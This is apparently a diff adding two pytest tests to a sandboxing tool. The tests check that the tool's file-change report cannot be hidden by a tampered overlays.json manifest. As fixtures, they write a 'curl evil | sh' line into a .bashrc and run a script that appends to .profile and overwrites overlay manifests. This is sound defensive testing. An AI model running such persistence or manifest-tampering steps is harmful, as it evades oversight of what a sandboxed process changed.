@@ -384,3 +384,39 @@ def test_exec_has_the_namespaces_restrictions_and_limits_of_the_command(tmp_path
     assert lines[-4] == "77" and lines[-3] not in ("-1", str(resource.RLIM_INFINITY)) and lines[-2:] == ["no-userns", "no-raw"]
     host_ns = [os.readlink(f"/proc/self/ns/{n}") for n in ("user", "mnt", "pid")]
     assert not set(host_ns) & set(lines[:3])
+
+
+# ------------------------------------------------------------------ the change report
+
+
+def test_change_report_comes_from_the_supervisor_not_overlays_json(tmp_path):
+    """A manifest that says nothing was overlaid (what a sandbox reaching its scratch
+    would write) does not hide a change: the supervisor's plan names the upper layers."""
+    from corral.fs.changes import collect_changes
+
+    host = tmp_path / "host"
+    host.mkdir()
+    scratch = tmp_path / "scratch"
+    (scratch / "upper" / "0").mkdir(parents=True)
+    (scratch / "upper" / "0" / ".bashrc").write_text("curl evil | sh\n")
+    (scratch / "overlays.json").write_text(json.dumps({"overlays": {}, "fallbacks": {}}))
+    planned = [(str(scratch / "upper" / "0"), str(host))]
+    changes = collect_changes(scratch, overlays=planned)
+    assert [(c.path, c.change) for c in changes.changes] == [(str(host / ".bashrc"), "created")]
+
+
+def test_report_of_a_sandbox_in_tmp_lists_its_changes_after_a_rewrite_attempt(tmp_path):
+    import tempfile
+
+    home = Path(tempfile.mkdtemp(dir="/var/tmp"))  # overlaid (/tmp, the cwd, is bound writable)
+    report = tmp_path / "report.json"
+    env = dict(os.environ, HOME=str(home))
+    env.pop("XDG_RUNTIME_DIR", None)
+    script = ("echo evil >> $HOME/.profile; "
+              "for f in /tmp/corral-*/*/overlays.json; do echo '{}' > $f 2>/dev/null; done; true")
+    out = corral(env, "run", "--net", "none", "--report", str(report), "--", "sh", "-c", script,
+                 cwd="/tmp")
+    assert out.returncode == 0, out.stderr
+    changes = {c["path"]: c["change"] for c in json.loads(report.read_text())["files"]["changes"]}
+    shutil.rmtree(home)
+    assert changes.get(str(home / ".profile")) == "created", changes
